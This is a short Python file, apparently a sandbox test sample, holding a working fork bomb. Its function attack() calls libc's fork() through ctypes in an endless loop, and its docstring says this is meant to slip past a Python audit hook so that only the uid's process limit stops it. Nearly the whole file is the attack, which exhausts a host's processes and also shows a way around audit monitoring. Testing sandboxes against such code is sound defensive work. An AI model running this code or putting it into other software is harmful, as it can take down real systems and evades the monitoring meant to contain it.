# ruff: noqa
"""A fork bomb the audit hook cannot see: fork() from libc through ctypes, every child forking
again. Only the process limit of the worker's own uid stops it."""

import ctypes


def attack():
    libc_fork = ctypes.pythonapi.fork  # the program's own symbols include libc's
    while True:
        libc_fork()
